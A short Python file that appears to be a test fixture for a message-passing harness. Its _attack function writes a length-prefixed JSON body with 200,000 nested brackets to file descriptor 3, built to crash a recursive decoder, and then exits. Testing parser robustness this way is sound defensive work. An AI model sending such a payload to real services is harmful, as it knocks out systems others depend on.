"""An answer that a recursive decoder can't read."""

import os
import struct


def _attack(messages):
    body = b'{"observation": ' + b"[" * 200_000 + b"]" * 200_000 + b"}"
    data = struct.pack(">I", len(body)) + body
    while data:
        data = data[os.write(3, data):]
    os._exit(0)
